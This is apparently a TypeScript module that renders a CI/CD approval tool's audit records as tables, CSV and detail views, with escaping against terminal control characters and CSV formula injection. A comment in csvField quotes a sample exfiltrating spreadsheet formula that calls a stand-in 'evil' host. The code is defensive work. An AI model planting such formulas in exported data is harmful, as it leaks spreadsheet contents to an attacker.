/**
 * What `tollgate audit` prints: times read from the command line, the table for terminals, CSV (RFC 4180,
 * guarded against formula injection), JSON lines, and one record in full for `show`. Pure functions: the
 * commands (audit.ts) decide where the text goes.
 */

import { type RecordDamage, recordDamage } from '../adapters/dynamodb/audit-damage.js';
import { type AuditRecord, GENESIS } from '../shared/audit/record.js';
import { parseIsoTime } from '../shared/dates.js';
import type { Violation } from '../shared/decision/record.js';
import { SEVERITIES } from '../shared/findings/finding.js';

/** A command-line value that cannot be used; the message is printed as `tollgate: <message>`. */
export class AuditUsageError extends Error {
  constructor(message: string) {
    super(message);
    this.name = 'AuditUsageError';
  }
}

/** The archive (`verify --archive`) could not be read: the message names the object and what failed. */
export class ArchiveReadError extends Error {
  constructor(message: string, options?: ErrorOptions) {
    super(message, options);
    this.name = 'ArchiveReadError';
  }
}

/** `tollgate audit archive` could not write an object: the message names it and what writing needs. */
export class ArchiveWriteError extends Error {
  constructor(message: string, options?: ErrorOptions) {
    super(message, options);
    this.name = 'ArchiveWriteError';
  }
}

// ── times ─────────────────────────────────────────────────────────────────────────────────────────

const UNIT_MS: Readonly<Record<string, number>> = {
  s: 1_000,
  m: 60_000,
  h: 3_600_000,
  d: 86_400_000,
  w: 7 * 86_400_000,
};

/**
 * `--since` / `--until`: an ISO-8601 date (`2026-11-01`, UTC), a timestamp with a zone
 * (`2026-11-01T12:00:00Z`, `2026-11-01T14:00:00+02:00`), or a time ago (`90m`, `12h`, `30d`, `2w`, `45s`).
 * A timestamp without a zone is refused: an audit range is never guessed from the local zone. The range is
 * half-open, [since, until), as the store reads it; a date alone covers its whole day, so as `--until` it is
 * the next day's first instant (`--since 2026-11-01 --until 2026-11-30` is all of November).
 */
export function parseTime(value: string, now: Date, bound: 'since' | 'until'): Date {
  const relative = /^(\d+)([smhdw])$/.exec(value.trim());
  if (relative) {
    const at = new Date(now.getTime() - Number(relative[1]) * UNIT_MS[relative[2]!]!);
    // Past the range a Date holds (about 270,000 years): an invalid date would read as no time at all.
    if (!Number.isFinite(at.getTime())) {
      throw new AuditUsageError(
        `--${bound} ${JSON.stringify(value)}: expected a time ago within the calendar`,
      );
    }
    return at;
  }
  const dateOnly = /^\d{4}-\d{2}-\d{2}$/.test(value);
  const ms = parseIsoTime(value);
  if (Number.isNaN(ms)) {
    throw new AuditUsageError(
      `--${bound} ${JSON.stringify(value)}: expected an ISO-8601 date (2026-11-01), a timestamp with a zone (2026-11-01T12:00:00Z) or a time ago (90m, 12h, 30d, 2w)`,
    );
  }
  return new Date(dateOnly && bound === 'until' ? ms + 86_400_000 : ms);
}

/** `2026-11-25T09:00:40Z`: seconds are enough in a table (the JSON, CSV and `show` keep the stored time). */
function shortTime(iso: string): string {
  return iso.replace(/\.\d+Z$/, 'Z');
}

// ── one line of text per record ──────────────────────────────────────────────────────────────────

/** The image as people write it: `payments/api@sha256:3f9a1c0d8e2b` (digest cut), with the first tag. */
export function imageText(record: AuditRecord, full = false): string {
  const image = record.image;
  if (!image) return '';
  const repository = image.repository ?? '?';
  const digest = image.digest ? (full ? image.digest : image.digest.slice(0, 19)) : '';
  const tag = image.tags[0];
  if (!digest) return tag ? `${repository}:${tag}` : repository;
  return `${repository}@${digest}${tag && !full ? ` (${tag})` : ''}`;
}

/** An IAM/STS ARN cut to its resource (`assumed-role/SecurityEngineer/alice`): tables are for reading. */
function shortActor(actor: string): string {
  const m = /^arn:aws[\w-]*:(?:sts|iam)::\d*:(.+)$/.exec(actor);
  return m ? m[1]! : actor;
}

/** What happened, in a line: the decision's summary, the action sent, or the person's resolution. */
export function describeRecord(record: AuditRecord): string {
  if (record.type === 'action' && record.action) {
    const a = record.action;
    if (a.kind === 'escalation') return `escalation sent${a.subject ? `: ${a.subject}` : ''}`;
    return `sent ${a.status ?? 'result'}${a.answer ? ` (${a.answer})` : ''}`;
  }
  if (record.type === 'resolution' && record.resolution) {
    const r = record.resolution;
    const who = r.reviewer ? ` by ${r.byTollgate ? 'Tollgate' : shortActor(r.reviewer)}` : '';
    const what = [r.state, r.status].filter((x) => x !== null).join(' · ') || 'resolved';
    // A reviewer's words are theirs alone: one who wrote none is not shown saying the decision's summary.
    const said = r.reviewer ? (r.summary ?? '(no comment)') : (r.summary ?? record.summary);
    return `${what}${who}${said ? `: ${said}` : ''}`;
  }
  return record.summary ?? '';
}

// Control characters other than tab and line feed (an escape sequence can erase or rewrite what a terminal
// shows, a carriage return overwrite a line) and the bidirectional marks and overrides (which reorder it).
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching them is the point
const UNPRINTABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;

/**
 * Text a reviewer or a scanner wrote, safe to print on a terminal: what could act on it is shown escaped
 * (`\u{1b}`), never obeyed. A reviewer's summary could otherwise rewrite the lines an auditor reads.
 */
export function printable(text: string): string {
  return text.replace(UNPRINTABLE, (c) => `\\u{${(c.codePointAt(0) ?? 0).toString(16)}}`);
}

/**
 * A value from a findings, policy or scenario file, for one line of a terminal report: `printable`, and its
 * tabs and line breaks escaped too, since a line break could start a line of its own (`APPROVE`).
 */
export function printableLine(text: string): string {
  return printable(text).replace(/[\t\n]/g, (c) => `\\u{${c.charCodeAt(0).toString(16)}}`);
}

/** One line, at most `max` characters: line breaks folded, the rest cut with `…`. */
export function cut(text: string, max: number): string {
  const line = text.replace(/\s*[\r\n]+\s*/g, ' ');
  return line.length <= max ? line : `${line.slice(0, max - 1)}…`;
}

// ── table ─────────────────────────────────────────────────────────────────────────────────────────

export const SUMMARY_WIDTH = 72;

/** Aligned columns for a terminal; the summary is cut to SUMMARY_WIDTH (`show` has it whole). */
export function renderTable(records: readonly AuditRecord[]): string {
  const header = ['TIME', 'RECORD', 'TYPE', 'OUTCOME', 'IMAGE', 'BY', 'SUMMARY'];
  const rows = records.map((r) =>
    [
      shortTime(r.time),
      `${r.pipeline}#${r.seq}`,
      r.type,
      r.outcome ?? '-',
      imageText(r) || '-',
      shortActor(r.resolution?.reviewer ?? r.actor),
      cut(describeRecord(r), SUMMARY_WIDTH),
    ].map(printable),
  );
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((row) => row[i]!.length)));
  const line = (cells: readonly string[]) =>
    cells
      .map((c, i) => (i === cells.length - 1 ? c : c.padEnd(widths[i]!)))
      .join('  ')
      .trimEnd();
  return `${[line(header), ...rows.map(line)].join('\n')}\n`;
}

// ── CSV ───────────────────────────────────────────────────────────────────────────────────────────

/** The CSV columns, in this order, always: scripts and spreadsheets address them by position too. */
export const CSV_COLUMNS = [
  'time',
  'pipeline',
  'seq',
  'type',
  'executionId',
  'stage',
  'action',
  'repository',
  'digest',
  'tags',
  'outcome',
  'actor',
  'reviewer',
  'policy',
  'policySha256',
  'violations',
  'vulnerabilities',
  'summary',
  // Added last, so that the columns before them keep their positions.
  'attempt',
  // What happened, beside what the policy said (`outcome`): the result Tollgate sent or the escalation
  // (`status`, `answer`), and how the approval ended and what the reviewer answered (`state`, `status`).
  'state',
  'status',
  'answer',
  // Advisory mode softens the policy's rules: what enforce mode would have decided is beside the outcome.
  'mode',
  'wouldBe',
  'vulnerabilitiesTruncated',
] as const;

/**
 * One CSV field (RFC 4180): quoted when it holds a quote, a comma or a line break, quotes doubled.
 *
 * A field starting with `=`, `+`, `-`, `@` (or a tab or carriage return) is prefixed with `'`. Spreadsheets
 * (Excel, LibreOffice, Google Sheets) evaluate such a cell as a formula when the file is opened, and much of
 * what a record holds is written by others: the summary a reviewer typed into the approval, the image's
 * tags and repository name, a rule's description. A value such as `=HYPERLINK("https://evil/?"&A1)` or a
 * DDE payload would otherwise run in the auditor's spreadsheet (CSV/formula injection, OWASP). The `'` makes
 * the cell plain text and shows what was stored; numbers this module writes (`seq`) never start with `-`.
 */
export function csvField(value: string): string {
  // Spaces before the sign do not stop a spreadsheet from reading a formula.
  const guarded = /^[\s\u00a0]*[=+\-@]|^[\t\r]/.test(value) ? `'${value}` : value;
  // A `;` is quoted too: spreadsheets in many locales split on it, and `ok;@SUM(…)` would start a cell with `@`.
  return /[",;\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
}

/** CRLF line ends, as RFC 4180 says. */
export function csvLine(values: readonly string[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}

export function csvHeader(): string {
  return csvLine(CSV_COLUMNS);
}

/** Lists inside a field are space-separated (ids and tags hold no spaces). */
export function csvRow(r: AuditRecord): string {
  const values: Record<(typeof CSV_COLUMNS)[number], string> = {
    time: r.time,
    pipeline: r.pipeline,
    seq: String(r.seq),
    type: r.type,
    executionId: r.gate.executionId,
    stage: r.gate.stage,
    action: r.gate.action,
    repository: r.image?.repository ?? '',
    digest: r.image?.digest ?? '',
    tags: (r.image?.tags ?? []).join(' '),
    outcome: r.outcome ?? '',
    actor: r.actor,
    reviewer: r.resolution?.reviewer ?? '',
    policy: r.policy?.name ?? '',
    policySha256: r.policy?.sha256 ?? '',
    violations: r.violations.map((v) => v.rule).join(' '),
    vulnerabilities: r.vulnerabilities.join(' '),
    // A resolution's own words are the reviewer's; its record's summary repeats the decision's.
    summary:
      r.type === 'resolution' && r.resolution?.reviewer
        ? (r.resolution.summary ?? '')
        : ((r.type === 'resolution' ? r.resolution?.summary : null) ?? r.summary ?? ''),
    attempt: String(r.gate.attempt ?? 1),
    state: r.resolution?.state ?? '',
    status:
      r.resolution?.status ?? (r.action?.kind === 'escalation' ? 'escalated' : (r.action?.status ?? '')),
    answer: r.action?.answer ?? '',
    // Absent: enforce mode, or a record from before the field (which may be advisory: its summary says).
    mode: r.mode ?? '',
    wouldBe: r.wouldBe ?? '',
    // Only decisions list vulnerabilities; `true` says the list was cut, so an id missing from it may have
    // been seen all the same.
    vulnerabilitiesTruncated:
      r.type === 'decision' || r.vulnerabilitiesTruncated ? String(r.vulnerabilitiesTruncated === true) : '',
  };
  return csvLine(CSV_COLUMNS.map((c) => values[c]));
}

// ── show ──────────────────────────────────────────────────────────────────────────────────────────

export interface HashCheck {
  /** The SHA-256 of the record's canonical form, recomputed now. */
  readonly computed: string;
  /** The previous record's stored hash (null: not found; ignored for seq 1; undefined: not checked). */
  readonly previous: string | null | undefined;
}

function violationLines(label: string, list: readonly Violation[]): string[] {
  if (list.length === 0) return [`  ${label.padEnd(16)}none`];
  const width = Math.max(...list.map((v) => v.rule.length));
  return list.map((v, i) => {
    const omitted = v.findingsOmitted ? ` (+${v.findingsOmitted} more, not stored)` : '';
    const ids = v.findings.length > 0 ? `: ${v.findings.join(', ')}${omitted}` : omitted;
    const head = `${v.rule.padEnd(width)}  ${v.action.padEnd(8)} ${v.count} matching (allow ${v.allow})${ids}`;
    const description = v.description ? `\n  ${''.padEnd(16)}${''.padEnd(width)}  ${v.description}` : '';
    return `  ${(i === 0 ? label : '').padEnd(16)}${head}${description}`;
  });
}

/**
 * The whole record, readable: every field `--format json` has, in an order a person reads. A record that is
 * not as Tollgate writes it (a field removed or changed by hand: `recordDamage`) is shown as stored instead,
 * field by field: it is the evidence, and the hash check below it says it was changed.
 */
export function renderShow(r: AuditRecord, check: HashCheck): string {
  const damage = recordDamage(r);
  if (damage) return renderDamaged(r, check, damage);
  const out: string[] = [];
  const row = (label: string, value: string) => out.push(`  ${label.padEnd(16)}${value}`);
  out.push(`${r.pipeline}#${r.seq}  ${r.type}  ${r.time}`);
  row('gate', `${r.gate.pipeline} / ${r.gate.stage} / ${r.gate.action}`);
  row(
    'execution',
    r.gate.attempt !== undefined && r.gate.attempt > 1
      ? `${r.gate.executionId} (attempt ${r.gate.attempt})`
      : r.gate.executionId,
  );
  row('actor', r.actor);
  if (r.image) {
    row('image', `${r.image.repository ?? '(repository unknown)'}`);
    row('digest', r.image.digest ?? '(unknown)');
    row('tags', r.image.tags.length > 0 ? r.image.tags.join(', ') : 'none');
  } else {
    row('image', 'none');
  }
  row('outcome', r.outcome ?? '-');
  if (r.mode === 'advisory') row('mode', `advisory: enforce mode would have decided ${r.wouldBe ?? '?'}`);
  for (const [i, line] of (r.summary ?? '-').split('\n').entries()) row(i === 0 ? 'summary' : '', line);

  if (r.type === 'decision' || r.violations.length > 0 || r.warnings.length > 0) {
    out.push(...violationLines('violations', r.violations));
    out.push(...violationLines('warnings', r.warnings));
  }
  if (r.exceptions) {
    const e = r.exceptions;
    const states: [string, readonly string[]][] = [
      ['applied', e.applied],
      ['expiring soon', e.expiringSoon],
      ['expired', e.expired],
      ['revoked', e.revoked],
      ['unused', e.unused],
    ];
    const any = states.some(([, ids]) => ids.length > 0);
    if (!any) row('exceptions', 'none');
    for (const [i, [state, ids]] of states.filter(([, ids]) => ids.length > 0).entries()) {
      row(i === 0 ? 'exceptions' : '', `${state.padEnd(14)} ${ids.join(', ')}`);
    }
  }
  if (r.counts) {
    const counts = r.counts;
    row('counts', SEVERITIES.map((s) => `${s} ${counts[s] ?? 0}`).join('  '));
  }
  if (r.ignored) row('ignored', `${r.ignored} finding(s) set aside by their status (not counted)`);
  if (r.policy) row('policy', `${r.policy.name}  sha256 ${r.policy.sha256}`);
  if (r.type === 'decision' || r.vulnerabilities.length > 0) {
    const n = r.vulnerabilities.length;
    row(
      'vulnerabilities',
      n === 0 ? 'none' : `${n}${r.vulnerabilitiesTruncated ? ' (truncated: the decision saw more)' : ''}`,
    );
    for (let i = 0; i < n; i += 6) row('', r.vulnerabilities.slice(i, i + 6).join(', '));
  }
  if (r.action) {
    const a = r.action;
    if (a.kind === 'escalation') row('action', `escalation sent${a.subject ? `: ${a.subject}` : ''}`);
    else row('action', `approval result ${a.status ?? '?'} sent to CodePipeline; answer ${a.answer ?? '?'}`);
  }
  if (r.resolution) {
    const s = r.resolution;
    row('resolution', s.state ?? '(its end was not known when this record was written)');
    row(
      'reviewer',
      s.reviewer
        ? `${s.reviewer}${s.byTollgate ? ' (Tollgate itself)' : ''}${s.source === 'listing' ? " (from CodePipeline's listing: CloudTrail's record never came)" : ''}`
        : 'none seen',
    );
    if (s.sourceIdentity) row('source identity', s.sourceIdentity);
    if (s.status) row('status', s.status);
    if (s.summary) for (const [i, line] of s.summary.split('\n').entries()) row(i === 0 ? 'said' : '', line);
  }
  chainLines(r, check, out, row);
  return `${out.map(printable).join('\n')}\n`;
}

/** The fields `show` prints of a record, in its order (`renderShow`); the chain's come last. */
const SHOWN_FIELDS = [
  'gate',
  'actor',
  'image',
  'outcome',
  'mode',
  'wouldBe',
  'summary',
  'violations',
  'warnings',
  'exceptions',
  'counts',
  'ignored',
  'policy',
  'vulnerabilities',
  'vulnerabilitiesTruncated',
  'action',
  'resolution',
] as const;

/** Fields a record may leave out (written before them, or not of its kind): not called absent. */
const OPTIONAL_FIELDS: ReadonlySet<string> = new Set(['mode', 'wouldBe', 'ignored']);

/** A stored value as it came: text as it is, anything else as JSON, nothing as `(absent)`. */
function storedText(value: unknown): string {
  if (value === undefined) return '(absent)';
  return typeof value === 'string' ? value : (JSON.stringify(value) ?? String(value));
}

/** A damaged record (see renderShow): each field as stored, an absent one said absent, then the chain. */
function renderDamaged(r: AuditRecord, check: HashCheck, damage: RecordDamage): string {
  const fields: Readonly<Record<string, unknown>> = { ...r };
  const out: string[] = [];
  // Wider than a whole record's labels: here each is a field's name, the longest `vulnerabilitiesTruncated`.
  const row = (label: string, value: string) => out.push(`  ${label.padEnd(26)}${value}`);
  out.push(
    `${storedText(fields.pipeline)}#${storedText(fields.seq)}  ${storedText(fields.type)}  ${storedText(fields.time)}`,
  );
  row(
    'damaged',
    `✗ not as Tollgate writes it: ${damage.field}: expected ${damage.expected}, got ${damage.got}; each field as stored:`,
  );
  const chain = new Set(['pipeline', 'seq', 'type', 'time', 'prevHash', 'hash']);
  const known = new Set<string>([...SHOWN_FIELDS, ...chain]);
  const extra = Object.keys(fields)
    .filter((k) => !known.has(k))
    .sort();
  for (const field of ['pipeline', 'seq', 'type', 'time', ...SHOWN_FIELDS, ...extra]) {
    const value = fields[field];
    if (value === undefined && OPTIONAL_FIELDS.has(field)) continue;
    row(field, storedText(value));
  }
  chainLines(r, check, out, row);
  return `${out.map(printable).join('\n')}\n`;
}

/** The record's place in its chain, and both hashes checked (✓ or ✗). */
function chainLines(
  r: AuditRecord,
  check: HashCheck,
  out: string[],
  row: (label: string, value: string) => void,
): void {
  out.push('');
  out.push('chain');
  row('position', `record ${storedText(r.seq)} of pipeline ${storedText(r.pipeline)}`);
  row('prevHash', storedText(r.prevHash));
  if (check.previous !== undefined) {
    const before = r.seq - 1;
    let verdict: string;
    if (r.seq === 1) {
      verdict =
        r.prevHash === GENESIS
          ? '✓ the genesis hash: the chain starts here'
          : '✗ record 1 must chain to the genesis hash';
    } else if (check.previous === null) {
      verdict = `✗ record ${before} is missing`;
    } else {
      verdict =
        check.previous === r.prevHash
          ? `✓ matches record ${before}`
          : `✗ record ${before} has hash ${check.previous}`;
    }
    row('', verdict);
  }
  row('hash', storedText(r.hash));
  row('', check.computed === r.hash ? '✓ matches the content' : `✗ the content hashes to ${check.computed}`);
}

/** `s3://bucket/prefix` as its parts; the prefix is `records/` (where the archive writes) when none is given. */
export function parseS3Uri(uri: string, flag = '--archive'): { bucket: string; prefix: string } {
  const m = /^s3:\/\/([^/]+)(?:\/(.*))?$/.exec(uri);
  if (!m) throw new AuditUsageError(`${flag} ${uri}: expected s3://BUCKET or s3://BUCKET/PREFIX`);
  // Bucket names: 3–63 characters, lower-case letters, digits, dots and hyphens.
  if (!/^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$/.test(m[1] ?? '')) {
    throw new AuditUsageError(
      `${flag} ${uri}: ${JSON.stringify(m[1])} is not an S3 bucket name (3–63 lower-case letters, digits, dots and hyphens)`,
    );
  }
  return { bucket: m[1] as string, prefix: m[2] === undefined || m[2] === '' ? 'records/' : m[2] };
}
